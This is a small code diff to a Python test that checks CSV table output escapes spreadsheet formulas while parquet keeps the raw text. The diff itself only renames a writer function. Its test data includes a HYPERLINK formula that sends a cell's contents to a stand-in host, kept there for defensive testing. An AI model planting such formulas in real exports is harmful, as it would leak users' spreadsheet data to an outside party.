@@ -10,7 +10,8 @@ import pytest
 
 from storage import quarantine
 from storage.quarantine import Quarantined
-from storage.tables import Measured, pairs_table, write_tables
+from storage.table_files import write_table
+from storage.tables import Measured, pairs_table
 
 FORMULAS = [
     '=HYPERLINK("http://example.invalid/?leak="&A1)',
@@ -47,7 +48,7 @@ def test_tables_have_no_formula_in_csv_and_the_raw_text_in_parquet(tmp_path: Pat
         for number, text in enumerate(FORMULAS)
     ]
     table = pairs_table(rows, Measured())
-    write_tables(tmp_path, pairs=table)
+    write_table(tmp_path, "pairs", table)
     head, *body = cells(tmp_path / "pairs.csv")
     assert "'=mine" in head
     for row, text in zip(body, FORMULAS, strict=True):
